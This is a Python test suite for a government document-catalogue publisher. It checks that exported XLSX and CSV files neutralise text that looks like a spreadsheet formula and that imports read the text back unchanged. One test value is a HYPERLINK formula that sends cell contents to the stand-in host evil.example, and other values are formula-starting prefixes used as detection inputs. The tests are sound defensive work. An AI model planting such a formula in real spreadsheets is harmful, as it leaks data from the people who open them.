"""Spreadsheet formulas: text that starts like a formula (= + - @, full-width
＝＋－＠, after spaces, or a tab/CR/LF) never runs when an export is opened
(OWASP CSV injection). XLSX cells stay string cells (no <f> element anywhere in
the file); CSV cells get a leading '; the Excel import reads the neutralised
form back as the original value. JSON is data and keeps the value as it is."""
import csv
import datetime as dt
import io
import json
import re
import unicodedata
import zipfile

import openpyxl
import pytest
from conftest import FIXED_TODAY
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from gongkai.excel.cells import append_row, csv_text, imported_text, looks_like_formula
from gongkai.excel.export import export_workbook
from gongkai.excel.importer import plan_import
from gongkai.pipeline import check, render

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"点击查看")'
FORMULA_LIKE = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
                " =1", "\u3000=1", "\u00a0+1", "\u200b=1", "﹦1", "-", "-5"]
PLAIN = ["测府规〔2021〕1号", "000000000000000000/2021-00002", "0759-0000000", "备2021-3", "（一）总则", "¥100",
         "2021-03-01", "'abc", "a=b", "测试市人民政府", "—", "…", "1+1", "#1"]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_is_recognised_and_neutralised(text):
    assert looks_like_formula(text)
    assert csv_text(text) == "'" + text
    assert imported_text(csv_text(text)) == text


@pytest.mark.parametrize("text", PLAIN + ["'=1", "''+1", "'"])
def test_other_text_passes_unchanged_and_reads_back_exactly(text):
    if text in PLAIN:
        assert not looks_like_formula(text) and csv_text(text) == text
    assert imported_text(csv_text(text)) == text  # '=1 typed on purpose gets one more '


def test_a_plain_first_character_decides_as_folding_the_whole_cell_would():
    """looks_like_formula answers at once for a cell starting with an ASCII letter or digit or a CJK ideograph:
    checked over every such character, followed by what could change the folding of a start."""
    from gongkai.excel.cells import _FORMULA_START, _PLAIN_START
    from gongkai.textnorm import folded
    plain = [chr(point) for point in range(0x110000) if _PLAIN_START.fullmatch(chr(point))]
    assert len(plain) == 62 + 0x9FFF - 0x4E00 + 1
    for first in plain:
        for rest in ("", "=1+1", "\u0301=1", "\u3099", "\u200b=1", " =1", "\u3000+1"):
            folded_start = folded(first + rest).lstrip()[:1]
            assert folded_start == first or unicodedata.normalize("NFC", first + rest[:1]) == folded_start
            assert folded_start not in _FORMULA_START and not looks_like_formula(first + rest)


@given(st.text(min_size=1, max_size=6))
@settings(max_examples=2000, deadline=None)
def test_the_answer_is_that_of_folding_the_whole_cell(text):
    from gongkai.excel.cells import _CONTROL_START, _FORMULA_START
    from gongkai.textnorm import folded
    first = folded(text).lstrip()[:1]
    assert looks_like_formula(text) == (text[0] in _CONTROL_START or first != "" and first in _FORMULA_START)


def test_numbers_stay_numbers():
    """A number is never text: -5 in a numeric column stays the number -5 (not a formula,
    no '), while the text "-5" (a 备案号, say) is neutralised like any other text."""
    book = Workbook()
    append_row(book.active, [-5, 1.5, "-5", dt.date(2021, 3, 1), None])
    cells = list(book.active.iter_rows(values_only=False))[0]
    assert [(c.value, c.data_type) for c in cells[:3]] == [(-5, "n"), (1.5, "n"), ("-5", "s")]
    assert cells[2].quotePrefix and not cells[0].quotePrefix
    from gongkai.opendata.exports import _csv_text

    assert (_csv_text(-5), _csv_text("-5"), _csv_text(dt.date(2021, 3, 1))) == ("-5", "'-5", "2021-03-01")


@pytest.fixture(scope="module")
def hostile_catalog(tmp_path_factory):
    import shutil

    from conftest import MINIMAL

    catalog = tmp_path_factory.mktemp("formula") / "catalog"
    shutil.copytree(MINIMAL, catalog)
    document = catalog / "documents" / "fx-2021-02.md"
    text = document.read_text(encoding="utf-8")
    text = text.replace("标题: 测试市人民政府关于修改《测试市停车管理办法》的决定", f"标题: '{HOSTILE_TITLE}'")
    text = text.replace("主题分类: 城乡建设", "主题分类: '＋城乡建设'").replace("备案号: 备2021-3", "备案号: '-'")
    document.write_text(text, encoding="utf-8")
    decision = catalog / "decisions" / "2021" / "2021-01.yaml"
    decision.write_text(decision.read_text(encoding="utf-8").replace("协办单位: [测试市公安局]", "协办单位: ['@测试市公安局']\n简介: '-'"),
                        encoding="utf-8")
    result = check(catalog, today=FIXED_TODAY)
    assert result.ok, [str(p) for p in result.errors]
    return result.catalog


def _xlsx_text_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def _assert_no_formula(data: bytes, where: str):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            assert not re.search(rb"<(?:\w+:)?f[ >/]", archive.read(name)), f"{where} {name} holds a formula element"
    assert all(cell.data_type == "s" for cell in _xlsx_text_cells(data)), where


def test_published_xlsx_keeps_formula_like_text_as_text(hostile_catalog):
    site = render(hostile_catalog, FIXED_TODAY)
    workbooks = {path: data for path, data in site.files.items() if path.endswith(".xlsx")}
    assert {"data/documents.xlsx", "data/all.xlsx", "data/decisions.xlsx"} <= set(workbooks)
    for path, data in workbooks.items():
        _assert_no_formula(data, path)
    cells = {cell.value: cell for cell in _xlsx_text_cells(workbooks["data/all.xlsx"])}
    for value in (HOSTILE_TITLE, "＋城乡建设", "@测试市公安局"):
        assert cells[value].data_type == "s" and cells[value].quotePrefix, value  # shown exactly as typed, and stays text


def test_published_csv_prefixes_formula_like_cells(hostile_catalog):
    site = render(hostile_catalog, FIXED_TODAY)
    rows = list(csv.DictReader(io.StringIO(site.files["data/documents.csv"].decode("utf-8-sig"))))
    row = next(r for r in rows if r["编号"] == "fx-2021-02")
    assert row["文件名称"] == "'" + HOSTILE_TITLE and row["主题分类"] == "'＋城乡建设"
    assert row["文号"] == "测府规〔2021〕2号" and row["成文日期"] == "2021-06-15"  # legitimate values untouched
    cells = [cell for path in ("data/all.csv", "data/decisions.csv") for row in csv.reader(
        io.StringIO(site.files[path].decode("utf-8-sig"))) for cell in row]
    assert "'" + HOSTILE_TITLE in cells and "'@测试市公安局" in cells and "'-" in cells  # 简介 "-" is text
    assert not [cell for cell in cells if looks_like_formula(cell)]  # no cell starts like a formula
    # JSON is data: the value as typed.
    documents = json.loads(site.files["data/documents.json"])["记录"]
    assert next(d for d in documents if d["编号"] == "fx-2021-02")["标题"] == HOSTILE_TITLE


def test_staff_export_keeps_text_and_imports_back_unchanged(hostile_catalog, tmp_path):
    book = tmp_path / "目录.xlsx"
    export_workbook(hostile_catalog, book, FIXED_TODAY)
    _assert_no_formula(book.read_bytes(), "staff export")
    plan = plan_import(book, hostile_catalog)
    assert not plan.problems and not plan.changes, (plan.problems, [c.values for c in plan.changes])


def test_import_reads_the_csv_form_as_the_original(hostile_catalog, tmp_path):
    """A register pasted from the CSV holds '=…: it reads as the text it stands for."""
    book_path = tmp_path / "目录.xlsx"
    export_workbook(hostile_catalog, book_path, FIXED_TODAY)
    book = openpyxl.load_workbook(book_path)
    sheet = book["规范性文件"]
    headers = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[headers.index("编号")].value == "fx-2021-02")
    row[headers.index("文件名称")].value = "'" + HOSTILE_TITLE
    row[headers.index("文件名称")].data_type = "s"
    row[headers.index("主题分类")].value = "'＋城乡建设、交通"
    book.save(book_path)
    plan = plan_import(book_path, hostile_catalog)
    assert not plan.problems
    assert [(c.record_id, c.values) for c in plan.changes] == [("fx-2021-02", {"主题分类": ("＋城乡建设", "＋城乡建设、交通")})]


def test_a_dash_or_negative_number_in_a_numeric_column_is_a_clear_import_error(hostile_catalog, tmp_path):
    book_path = tmp_path / "目录.xlsx"
    export_workbook(hostile_catalog, book_path, FIXED_TODAY)
    book = openpyxl.load_workbook(book_path)
    sheet = book["重大行政决策事项"]
    column = [c.value for c in sheet[1]].index("序号") + 1
    sheet.cell(2, column).value, sheet.cell(3, column).value, sheet.cell(4, column).value = "-", -2, "'-1"
    book.save(book_path)
    messages = [str(p) for p in plan_import(book_path, hostile_catalog).problems]
    assert messages == ['表格 重大行政决策事项 第2行 序号: "-" 不是整数 — 请填写阿拉伯数字，如 3',
                        '表格 重大行政决策事项 第3行 序号: "-2" 太小 — 应不小于 1',
                        '表格 重大行政决策事项 第4行 序号: "-1" 太小 — 应不小于 1']


def test_annual_report_tables_hold_no_formula():
    from conftest import PROJECT

    result = check(PROJECT / "catalog", today=FIXED_TODAY)
    site = render(result.catalog, FIXED_TODAY)
    annual = [path for path in site.files if path.startswith("annual/") and path.endswith(".xlsx")]
    assert annual
    for path in annual:
        _assert_no_formula(site.files[path], path)
